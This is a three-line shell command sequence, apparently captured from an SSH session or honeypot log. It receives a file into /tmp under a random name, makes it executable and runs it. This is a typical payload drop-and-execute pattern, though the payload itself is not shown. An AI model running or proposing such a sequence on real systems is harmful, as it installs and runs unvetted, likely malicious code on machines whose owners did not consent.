scp -t /tmp/BUwTrLEj
cd /tmp && chmod +x BUwTrLEj && bash -c ./BUwTrLEj
./BUwTrLEj
